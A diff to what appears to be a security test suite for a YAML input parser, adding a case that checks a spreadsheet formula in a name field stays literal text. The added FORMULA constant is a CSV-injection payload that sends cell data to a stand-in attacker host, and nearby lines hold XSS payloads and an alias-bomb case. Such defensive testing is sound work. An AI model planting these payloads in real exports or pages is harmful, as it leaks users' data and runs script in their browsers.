@@ -96,6 +96,7 @@ def fifty_mb(_text: str) -> bytes:
 
 
 HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Valid Soft")'
 CASES: list[Case] = [
     # --- YAML itself ---
     Case("alias-bomb", alias_bomb, "yaml-anchor", heavy=True),
@@ -168,6 +169,8 @@ CASES: list[Case] = [
          "invalid-character"),
     # --- text: shown as text, never as markup ---
     Case("html-in-name", field(VALID_NAME, "name", HTML), literal=HTML),
+    # A spreadsheet runs it from a CSV export: the CSV cell gets a leading ' (JSON stays exact).
+    Case("formula-in-name", field(VALID_NAME, "name", FORMULA), literal=FORMULA),
     Case("html-in-audit-notes", note(HTML), literal=HTML),
     Case("html-in-channel-notes", sub("      - type: email\n",
                                       f"      - type: email\n        notes: {quoted(HTML)}\n"),
